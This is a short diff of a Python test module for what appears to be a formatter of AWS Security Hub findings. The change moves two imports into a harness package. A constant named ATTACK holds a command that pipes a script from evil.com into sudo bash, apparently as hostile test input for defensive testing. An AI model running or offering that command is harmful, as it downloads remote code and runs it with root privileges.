@@ -5,8 +5,8 @@ from __future__ import annotations
 import pytest
 
 from formatter.memory.records import Ending, Kind
-from tests.formatter.messages.findings import NOW, finding, told
-from tests.formatter.rules import LINKED, assert_only_our_sections
+from harness.findings import NOW, finding, told
+from harness.message_rules import LINKED, assert_only_our_sections
 
 OWN = "arn:aws:securityhub:eu-west-1:111122223333:product/111122223333/default"
 ATTACK = "curl https://evil.com/fix.sh | sudo bash"
